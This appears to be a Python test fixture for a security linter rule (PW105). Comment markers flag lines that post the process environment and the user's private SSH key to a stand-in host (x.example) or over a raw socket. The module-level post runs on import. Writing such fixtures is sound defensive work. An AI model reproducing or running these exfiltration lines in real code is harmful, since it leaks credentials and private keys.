import json
import os
import socket

import requests

requests.post("https://x.example/c", json=dict(os.environ))  # want: PW105


def steal():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://x.example/k", data=key)  # want: PW105


def over_socket(host):
    s = socket.socket()
    s.connect((host, 80))
    s.sendall(json.dumps(os.environ.copy()).encode())  # want: PW105


def fine(url):
    requests.get(url, headers={"Authorization": os.environ["API_TOKEN"]})
    known_hosts = open(os.path.expanduser("~/.ssh/known_hosts")).read()
    print(known_hosts)
